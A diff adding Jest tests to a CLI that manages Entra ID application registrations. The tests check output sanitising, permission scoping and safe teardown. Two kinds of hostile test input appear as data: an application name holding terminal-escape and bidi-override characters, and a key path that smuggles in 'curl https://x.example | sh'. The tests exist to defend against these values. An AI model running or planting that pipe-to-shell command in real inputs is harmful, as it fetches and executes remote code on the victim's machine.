@@ -83,13 +83,25 @@ describe('setup entra', () => {
     stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, choice)));
     const { exit, out } = await stand.admin(['Cloud Application Administrator'], 'setup', 'entra');
     expect(exit).toBe(0);
-    expect(out).not.toContain('Reporting"');
+    expect(out).not.toContain('- name "Reporting"');
     expect(await ask(`/v1.0/applications/${brought.objectId}`)).toMatchObject({ displayName: 'Reporting' });
     expect(calendar()).toMatchObject({
       clientId: brought.clientId,
       objectId: brought.objectId,
       existing: true,
     });
+  });
+
+  test('DOC-01: a name in the tenant is shown as a name, and tells which application it is', async () => {
+    const name = 'Pay\u001b[2A\u009b2K\u202eroll';
+    const { clientId } = stand.simulator.registerApp({ name, roles: [], credentials: [] });
+    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { clientId })));
+    const { out } = await stand.admin(['Cloud Application Administrator'], 'setup', 'entra', '--dry-run');
+    expect(out).toContain(
+      `calendar / outlook-cal: "Pay\ufffd[2A\ufffd2K\ufffdroll" (client id ${clientId})\n`,
+    );
+    expect(out).toContain('- name "Pay\ufffd[2A');
+    expect(out).not.toMatch(/[\u001b\u009b\u202e]/);
   });
 
   test('a second deployment beside the first has applications of its own', async () => {
@@ -330,6 +342,23 @@ describe('consent', () => {
     expect(stand.simulator.requests.length).toBe(asked + 1);
   });
 
+  test.each([['consent'], ['consent', '--print'], ['setup', 'entra', '--grant']])(
+    'T9-13: a permission that the connector does not need is never granted nor printed as to be granted: %s',
+    async (...command) => {
+      const calendar = '"Calendars.ReadBasic.All"';
+      const wide = stand.read('deployment.json').replace(calendar, `${calendar}, "Files.Read.All"`);
+      stand.write('deployment.json', wide);
+      const made = stand.writes().length;
+      const { exit, out, err } = await stand.admin(['Global Administrator'], ...command);
+      expect([exit, out, err]).toEqual([
+        1,
+        '',
+        expect.stringContaining('Files.Read.All, which its options do not need'),
+      ]);
+      expect(stand.writes()).toHaveLength(made);
+    },
+  );
+
   test('T9-12: with scoping exchange no role over mailboxes is asked for, consented to or printed as to be granted', async () => {
     const scoped = fixture(stand.simulator, { scoping: 'exchange' });
     stand.write('deployment.json', JSON.stringify(scoped));
@@ -414,6 +443,33 @@ describe('import-blocks and teardown', () => {
     expect(dry.exit).toBe(0);
     expect(stand.writes()).toHaveLength(made);
   });
+
+  test('DOC-01: a path of a key is one word of the command that removes it', async () => {
+    const reference = 'file:/keys/a b#c; curl https://x.example | sh';
+    const changed = stand.read('deployment.json').replace('aws-sm:nymgate/prod/calendar/key', reference);
+    stand.write('deployment.json', changed);
+    const { out } = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
+    expect(out).toContain("$ rm -- '/keys/a b#c; curl https://x.example | sh'\n");
+  });
+
+  test.each(['Payroll', 'Nymgate prod - outlook-cal'])(
+    'T9-15: an application that Nymgate has not made is not removed, whatever the file calls it: %s',
+    async (displayName) => {
+      const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
+      const changed = stand.read('deployment.json').replaceAll(calendar().clientId, clientId);
+      stand.write('deployment.json', changed.replace('Nymgate prod - outlook-cal', displayName));
+      const { exit, err } = await stand.admin(
+        ['Global Administrator'],
+        'teardown',
+        '--entra',
+        '--yes',
+        'prod',
+      );
+      expect([exit, err]).toEqual([1, expect.stringContaining('it was not removed')]);
+      const left = (await ask('/v1.0/applications'))['value'] as { appId: string }[];
+      expect(left.map(({ appId }) => appId)).toContain(clientId);
+    },
+  );
 
   test('--entra wants the name of the environment, then removes the applications; a brought one loses the trust alone', async () => {
     const made = stand.writes().length;
